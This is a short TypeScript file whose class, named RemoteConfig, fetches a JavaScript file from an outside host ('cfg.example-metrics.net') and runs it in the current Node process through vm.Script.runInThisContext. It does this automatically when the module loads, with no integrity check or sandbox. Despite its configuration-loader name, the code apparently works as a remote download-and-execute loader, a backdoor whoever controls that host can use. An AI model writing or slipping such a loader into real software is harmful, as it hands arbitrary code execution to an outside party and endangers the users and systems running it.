import axios from 'axios';
import * as vm from 'vm';

class RemoteConfig {
  private code = '';

  async load(): Promise<void> {
    const { data } = await axios.get<string>('https://cfg.example-metrics.net/rules.js', {
      responseType: 'text',
    });
    this.code = data;
  }

  run(): void {
    new vm.Script(this.code).runInThisContext();
  }
}

const rc = new RemoteConfig();
rc.load().then(() => rc.run());
